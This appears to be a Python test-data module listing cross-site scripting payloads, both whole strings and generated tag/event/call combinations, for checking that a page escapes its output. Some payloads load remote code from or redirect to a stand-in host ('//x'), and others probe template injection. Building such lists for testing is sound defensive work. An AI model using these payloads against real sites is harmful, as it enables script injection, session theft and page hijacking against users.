"""Texts that would run, or break out of the page, where one forgot to escape them."""

from __future__ import annotations

from itertools import product

_TAGS = ("img", "svg", "body", "iframe", "video", "audio", "details", "input", "object", "math")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_CALLS = ("alert(1)", "import('//x')", "top.location='//x'")
_WHOLE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x></SCRIPT>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<a href='javascript:alert(1)'>a</a>",
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "<form action=javascript:alert(1)><button>b</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//x>",
    "<style>@import '//x';</style>",
    "<base href=//x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "{{ 7|add:7 }}<i>",
    "{% debug %}<i>",
)
PAYLOADS = (
    *_WHOLE,
    *(f"<{tag} src=x {event}={call}>" for tag, event, call in product(_TAGS, _EVENTS, _CALLS)),
)
